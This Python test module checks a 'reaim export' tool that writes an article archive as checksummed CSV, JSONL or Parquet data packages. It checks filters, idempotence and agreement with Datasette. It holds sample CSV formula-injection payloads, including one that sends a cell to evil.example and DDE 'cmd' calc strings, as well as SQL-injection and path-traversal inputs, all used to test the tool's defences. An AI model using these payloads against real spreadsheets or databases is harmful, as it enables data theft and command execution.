"""`reaim export`: formats, filters, --no-text, the data package and its checksums,
formula neutralisation, path safety, idempotence, and agreement with Datasette.

The archive is the demo's (the bundled sample site crawled on loopback), built
once for the module; tests that change it work on a copy."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from archive import export as export_mod
from archive.export import FORMATS, ExportError, export_archive, neutralise, resources
from archive.queries import ARTICLES_QUERY, FILTER_PARAMS, ArticleFilters, canned_query, metadata
from reaim.export_cmd import export as export_command

DATA_FILES = {"articles", "article_events", "article_themes", "events", "themes"}
PACKAGE_FILES = {"datapackage.json", "README.md", "SHA256SUMS"}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("export-archive") / "demo.db"
    env = {**os.environ, "REAIM_TRANSLATOR": "none"}
    env.pop("REAIM_TRANSLATOR_URL", None)
    proc = subprocess.run(
        [sys.executable, "-m", "reaim.cli", "demo", "--no-serve", "--db", str(db)],
        capture_output=True, text=True, timeout=300, env=env,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr[-3000:]
    return db


def _copy(db: Path, dest: Path) -> Path:
    with sqlite3.connect(db) as src, sqlite3.connect(dest) as dst:
        src.backup(dst)
    return dest


def _query(db: Path, sql: str, params: Any = ()) -> list[tuple[Any, ...]]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql, params).fetchall()


def _jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _ids(out: Path) -> list[str]:
    return [r["id"] for r in _jsonl(out / "articles.jsonl")]


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _check_sums(out: Path) -> None:
    listed = {}
    for line in (out / "SHA256SUMS").read_text(encoding="utf-8").splitlines():
        digest, name = line.split("  ", 1)
        listed[name] = digest
    on_disk = {p.name for p in out.iterdir() if p.is_file()} - {"SHA256SUMS"}
    assert set(listed) == on_disk
    for name, digest in listed.items():
        assert _sha256(out / name) == digest, name
    if shutil.which("sha256sum"):
        proc = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=out, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr


def _frictionless_valid(out: Path) -> None:
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "type", "message"])[:10]


# --- the package ---------------------------------------------------------------------------


def test_csv_export_is_a_valid_checksummed_data_package(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = export_archive(archive, out, fmt="csv")
    relevant = _query(archive, "select count(*) from articles where relevant = 1")[0][0]
    assert result.articles == relevant > 30
    assert {p.name for p in out.iterdir()} == {f"{n}.csv" for n in DATA_FILES} | PACKAGE_FILES
    assert result.files[-1] == "SHA256SUMS"
    _check_sums(out)
    _frictionless_valid(out)

    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in package["resources"]] == [r.name for r in resources()]
    for res in package["resources"]:
        assert res["path"] == f"{res['name']}.csv" and res["format"] == "csv"
        assert res["hash"] == "sha256:" + _sha256(out / res["path"])
        for field in res["schema"]["fields"]:
            assert field["type"] and len(field["description"]) > 5, (res["name"], field)
    articles = _csv(out / "articles.csv")
    assert list(articles[0]) == [f["name"] for f in package["resources"][0]["schema"]["fields"]]
    tagged = [a for a in articles if ";" in a["events"]]
    assert tagged and all(a["events"].split(";")[0] == a["primary_event"] for a in tagged)
    assert len(_csv(out / "events.csv")) == _query(archive, "select count(*) from events")[0][0]


def test_jsonl_export_validates_and_keeps_native_values(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "jsonl"
    export_archive(archive, out, fmt="jsonl")
    _check_sums(out)
    pytest.importorskip("jsonlines")  # frictionless reads JSON Lines with it (frictionless[json])
    _frictionless_valid(out)
    row = _jsonl(out / "articles.jsonl")[0]
    assert isinstance(row["events"], list) and isinstance(row["relevance"], float)
    tag = _jsonl(out / "article_events.jsonl")[0]
    assert isinstance(tag["evidence"], dict) and isinstance(tag["is_primary"], bool)
    assert isinstance(_jsonl(out / "events.jsonl")[0]["labels"], dict)


def test_parquet_export_has_typed_columns_and_a_valid_descriptor(archive: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    frictionless = pytest.importorskip("frictionless")
    export_archive(archive, tmp_path / "j", fmt="jsonl")
    out = tmp_path / "parquet"
    result = export_archive(archive, out, fmt="parquet")
    _check_sums(out)
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert list(frictionless.Package.metadata_validate(package)) == []
    for res in package["resources"]:
        table = pq.read_table(out / res["path"])
        assert table.column_names == [f["name"] for f in res["schema"]["fields"]]
        assert table.num_rows == result.rows[res["name"]]
    articles = pq.read_table(out / "articles.parquet")
    assert str(articles.schema.field("events").type) == "list<element: string>"
    assert str(articles.schema.field("published").type) == "timestamp[us, tz=UTC]"
    assert articles.column("id").to_pylist() == _ids(tmp_path / "j")


def test_parquet_without_pyarrow_is_a_clear_error_before_any_file(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(ExportError, match="pip install pyarrow"):
        export_archive(archive, tmp_path / "out", fmt="parquet")
    assert not (tmp_path / "out").exists()


def test_the_codebook_documents_selection_counts_period_taxonomy_and_licence(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "ko"
    export_archive(archive, out, fmt="csv", filters=ArticleFilters(language="ko", event="reaim-2024"))
    readme = (out / "README.md").read_text(encoding="utf-8")
    n = len(_csv(out / "articles.csv"))
    version = _query(archive, "select taxonomy_version from events limit 1")[0][0]
    published = _query(archive, "select min(published) from articles a where relevant = 1 and language = 'ko' and "
                                "exists (select 1 from article_events e where e.article_id = a.id and e.event_id = 'reaim-2024')")
    for expected in (
        "reaim export --format csv --event reaim-2024 --language ko", "`language` = `ko`", "`event` = `reaim-2024`",
        f"| ko | {n} |", "| reaim-2024 |", f"taxonomy version {version}", f"Published: {published[0][0]} to",
        "Fetched: ", "## Fields", "| text_en |", "remain the copyright", "--no-text", "No endorsements file",
        f"canned query `{ARTICLES_QUERY}`", "/demo/export_articles?event=reaim-2024&language=ko", "exists (",
    ):
        assert expected in readme, expected


# --- filters ---------------------------------------------------------------------------------


def _expected_ids(db: Path, where: str, params: Any = ()) -> set[str]:
    return {r[0] for r in _query(db, f"select a.id from articles a where a.relevant = 1 and {where}", params)}


def test_filters_select_the_right_articles_and_their_tags(archive: Path, tmp_path: Path) -> None:
    day = _query(archive, "select substr(published, 1, 10) from articles where relevant = 1 "
                          "and published is not null order by published limit 1 offset 10")[0][0]
    cases = [
        (ArticleFilters(event="reaim-2026"), "exists (select 1 from article_events e where e.article_id = a.id "
                                             "and e.event_id = 'reaim-2026')"),
        (ArticleFilters(theme="human-control"), "exists (select 1 from article_themes t where t.article_id = a.id "
                                                "and t.theme_id = 'human-control')"),
        (ArticleFilters(language="de"), "a.language = 'de'"),
        (ArticleFilters(since=_date("2024-09-01"), until=_date("2024-09-10")),
         "a.published >= '2024-09-01' and a.published < '2024-09-11'"),
        (ArticleFilters(since=_date(day), until=_date(day)), f"substr(a.published, 1, 10) = '{day}'"),
        (ArticleFilters(event="reaim-2023", language="ko"), "a.language = 'ko' and exists (select 1 from "
         "article_events e where e.article_id = a.id and e.event_id = 'reaim-2023')"),
    ]
    for i, (filters, where) in enumerate(cases):
        out = tmp_path / str(i)
        export_archive(archive, out, fmt="jsonl", filters=filters)
        ids = _ids(out)
        assert ids and set(ids) == _expected_ids(archive, where), filters
        assert {t["article_id"] for t in _jsonl(out / "article_events.jsonl")} <= set(ids)
        assert {t["article_id"] for t in _jsonl(out / "article_themes.jsonl")} <= set(ids)
        if filters.event:
            assert all(filters.event in r["events"] for r in _jsonl(out / "articles.jsonl"))


def _date(text: str) -> Any:
    import datetime as dt

    return dt.date.fromisoformat(text)


def test_since_after_until_is_refused() -> None:
    with pytest.raises(ValueError, match="after --until"):
        ArticleFilters(since=_date("2025-01-02"), until=_date("2025-01-01"))


# --- --no-text --------------------------------------------------------------------------------


def test_no_text_leaves_out_texts_and_snippets_but_keeps_titles_and_tags(archive: Path, tmp_path: Path) -> None:
    samples = [r[0] for r in _query(archive, "select substr(text, 200, 60) from articles where relevant = 1 "
                                             "and length(text) > 400 limit 5")]
    assert len(samples) == 5
    for fmt in ("csv", "jsonl"):
        out = tmp_path / fmt
        export_archive(archive, out, fmt=fmt, include_text=False)
        _check_sums(out)
        blob = b"".join(p.read_bytes() for p in out.iterdir() if p.name.endswith(fmt))
        for sample in samples:
            assert sample.encode("utf-8") not in blob
        package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
        names = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
        assert "text" not in names and "text_en" not in names and "title" in names and "title_en" in names
        assert "left out (`--no-text`)" in (out / "README.md").read_text(encoding="utf-8")
    rows = _jsonl(tmp_path / "jsonl" / "article_events.jsonl")
    assert rows and all("snippet" not in r["evidence"] and r["evidence"]["terms"] for r in rows)
    assert all(r["title"] for r in _jsonl(tmp_path / "jsonl" / "articles.jsonl"))
    _frictionless_valid(tmp_path / "csv")


# --- CSV formula injection ---------------------------------------------------------------------

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(archive: Path, tmp_path: Path) -> None:
    db = _copy(archive, tmp_path / "evil.db")
    ids = [r[0] for r in _query(db, "select id from articles where relevant = 1 order by id limit ?", [len(MALICIOUS)])]
    with sqlite3.connect(db) as conn:
        for article_id, title in zip(ids, MALICIOUS, strict=True):
            conn.execute("update articles set title = ? where id = ?", [title, article_id])
        conn.execute("update articles set outlet = ? where id = ?", ["=cmd|' /C calc'!A0", ids[0]])
    export_archive(db, tmp_path / "csv", fmt="csv")
    export_archive(db, tmp_path / "jsonl", fmt="jsonl")
    csv_rows = {r["id"]: r for r in _csv(tmp_path / "csv" / "articles.csv")}
    json_rows = {r["id"]: r for r in _jsonl(tmp_path / "jsonl" / "articles.jsonl")}
    for article_id, title in zip(ids, MALICIOUS, strict=True):
        assert csv_rows[article_id]["title"] == "'" + title
        assert json_rows[article_id]["title"] == title  # only CSV is changed
    assert csv_rows[ids[0]]["outlet"] == "'=cmd|' /C calc'!A0"
    for row in csv_rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    _frictionless_valid(tmp_path / "csv")


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("-5") == "'-5" and neutralise("@x") == "'@x"
    assert neutralise("Seoul summit") == "Seoul summit" and neutralise("") == "" and neutralise("a=b") == "a=b"


# --- path safety, injection, read-only ------------------------------------------------------------


def test_crafted_filters_match_nothing_and_write_only_inside_the_folder(archive: Path, tmp_path: Path) -> None:
    db = _copy(archive, tmp_path / "a.db")
    before_db = _sha256(db)
    work = tmp_path / "work"
    (work / "deep" / "er").mkdir(parents=True)
    out = work / "deep" / "er" / "out"
    snapshot = {p for p in tmp_path.rglob("*")}
    result = CliRunner().invoke(export_command, [
        "--db", str(db), "--out", str(out), "--format", "csv",
        "--event", "../../x", "--theme", "'; drop table articles; --", "--language", "en' or 1=1 --",
    ])
    assert result.exit_code == 0, result.output
    assert "warning: no event '../../x' in the archive" in result.output
    assert "articles 0" in result.output
    # SQLite may add the WAL index files beside the archive, even read-only
    created = {p for p in tmp_path.rglob("*") if p.name not in ("a.db-shm", "a.db-wal")} - snapshot
    assert created and all(p == out or out in p.parents for p in created), created
    assert {p.name for p in out.iterdir()} == {f"{n}.csv" for n in DATA_FILES} | PACKAGE_FILES
    assert _csv(out / "articles.csv") == [] and _csv(out / "article_events.csv") == []
    assert len(_csv(out / "events.csv")) > 0  # the taxonomy is always there
    assert _sha256(db) == before_db  # the archive is opened read-only
    assert _query(db, "select count(*) from articles")[0][0] > 0


def test_output_names_are_fixed_and_resolved(archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a").mkdir()
    result = export_archive(archive, "a/../b/./c", fmt="csv", filters=ArticleFilters(event="../../../etc/passwd"))
    assert result.out_dir == (tmp_path / "b" / "c").resolve()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "b"] and not any((tmp_path / "a").iterdir())


def test_user_errors_are_one_line(archive: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    missing = runner.invoke(export_command, ["--db", str(tmp_path / "none.db"), "--out", str(tmp_path / "o")])
    assert missing.exit_code == 1 and "no archive at" in missing.output and "Traceback" not in missing.output
    assert not (tmp_path / "o").exists()
    afile = tmp_path / "file.txt"
    afile.write_text("x")
    clash = runner.invoke(export_command, ["--db", str(archive), "--out", str(afile)])
    assert clash.exit_code != 0 and "Traceback" not in clash.output
    dates = runner.invoke(export_command, ["--db", str(archive), "--out", str(tmp_path / "d"),
                                           "--since", "2025-02-01", "--until", "2025-01-01"])
    assert dates.exit_code == 1 and "after --until" in dates.output
    bad_date = runner.invoke(export_command, ["--db", str(archive), "--out", str(tmp_path / "d"), "--since", "May"])
    assert bad_date.exit_code == 2 and "Invalid value for '--since'" in bad_date.output
    not_db = tmp_path / "not.db"
    not_db.write_text("hello")
    broken = runner.invoke(export_command, ["--db", str(not_db), "--out", str(tmp_path / "n")])
    assert broken.exit_code == 1 and "not a database" in broken.output


# --- idempotence ------------------------------------------------------------------------------------


def test_re_export_into_the_same_folder_is_idempotent(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export_archive(archive, out, fmt="csv")
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    (out / "my-notes.txt").write_text("mine", encoding="utf-8")
    export_archive(archive, out, fmt="csv")
    second = {p.name: p.read_bytes() for p in out.iterdir() if p.name != "my-notes.txt"}
    assert second == first  # byte-identical, same SHA256SUMS
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no staging folder left

    export_archive(archive, out, fmt="jsonl", include_text=False)
    names = {p.name for p in out.iterdir()}
    assert names == {f"{n}.jsonl" for n in DATA_FILES} | PACKAGE_FILES | {"my-notes.txt"}
    assert "my-notes.txt" not in (out / "SHA256SUMS").read_text(encoding="utf-8")
    assert (out / "my-notes.txt").read_text(encoding="utf-8") == "mine"


# --- one query for Datasette and the export --------------------------------------------------------


def test_datasette_canned_query_returns_the_exported_rows(archive: Path, tmp_path: Path) -> None:
    from archive.datasette import serve_command

    path = f"/{archive.stem}/{ARTICLES_QUERY}.json?_shape=array&event=reaim-2024&language=en&since=2024-01-01"
    proc = subprocess.run(serve_command(archive, extra=["--get", path]), capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    served = json.loads(proc.stdout)
    out = tmp_path / "out"
    export_archive(archive, out, fmt="jsonl",
                   filters=ArticleFilters(event="reaim-2024", language="en", since=_date("2024-01-01")))
    exported = _jsonl(out / "articles.jsonl")
    assert served and [r["id"] for r in served] == [r["id"] for r in exported]
    assert [json.loads(r["events"]) for r in served] == [r["events"] for r in exported]


def test_the_query_lives_in_metadata_yml_with_the_existing_ones() -> None:
    queries = metadata()["databases"]["reaim"]["queries"]
    assert {"coverage_by_summit_language", "timeline_by_month", "top_outlets_by_language",
            "themes_by_summit", ARTICLES_QUERY} <= set(queries)
    query = canned_query(ARTICLES_QUERY)
    assert set(query.params) == set(FILTER_PARAMS) == set(ArticleFilters().params())
    assert "%" not in query.sql and "{" not in query.sql  # nothing is formatted into it
    source = Path(export_mod.__file__).read_text(encoding="utf-8")
    assert "from articles a" not in source  # the selection is not copied into the export


def test_a_query_that_drifts_from_the_export_fails_loudly(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sql, params = export_mod.article_selection(ArticleFilters())
    monkeypatch.setattr(export_mod, "article_selection",
                        lambda filters: (sql.replace("a.relevance, ", ""), params))
    with pytest.raises(ExportError, match="keep the query"):
        export_archive(archive, tmp_path / "out", fmt="csv")


# --- the command -------------------------------------------------------------------------------------


def test_the_command_registers_in_a_group_with_help_and_example() -> None:
    group = click.Group("reaim", commands={"export": export_command})
    result = CliRunner().invoke(group, ["export", "--help"])
    assert result.exit_code == 0
    assert "Example" in result.output and "reaim export" in result.output
    for option in ("--format", "--out", "--event", "--theme", "--language", "--since", "--until", "--no-text", "--db"):
        assert option in result.output


def test_db_option_is_the_same_as_the_other_commands() -> None:
    from reaim.cli import cli

    ours = next(p for p in export_command.params if p.name == "db")
    theirs = next(p for p in cli.commands["serve"].params if p.name == "db")
    for attr in ("opts", "help", "show_default", "default"):
        assert getattr(ours, attr) == getattr(theirs, attr), attr


def test_progress_is_reported(archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[int, int]] = []
    result = export_archive(archive, tmp_path / "a", fmt="csv", progress=lambda d, t: calls.append((d, t)))
    assert calls[-1] == (result.articles, result.articles)

    import reaim.export_cmd

    monkeypatch.setattr(export_mod, "PROGRESS_EVERY", 5)
    monkeypatch.setattr(reaim.export_cmd, "NON_TTY_EVERY", 10)
    run = CliRunner().invoke(export_command, ["--db", str(archive), "--out", str(tmp_path / "b")])
    assert run.exit_code == 0, run.output
    lines = [line for line in run.stderr.splitlines() if line.startswith("Exporting articles")]
    assert lines[0] == f"Exporting articles: 10/{result.articles}"
    assert lines[-1] == f"Exporting articles: {result.articles}/{result.articles}"
    assert len(lines) == len(set(lines))


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_writes_the_same_articles(archive: Path, tmp_path: Path, fmt: str) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    result = export_archive(archive, tmp_path / fmt, fmt=fmt, filters=ArticleFilters(theme="human-control"))
    assert result.rows["articles"] == len(_expected_ids(
        archive, "exists (select 1 from article_themes t where t.article_id = a.id and t.theme_id = 'human-control')"))
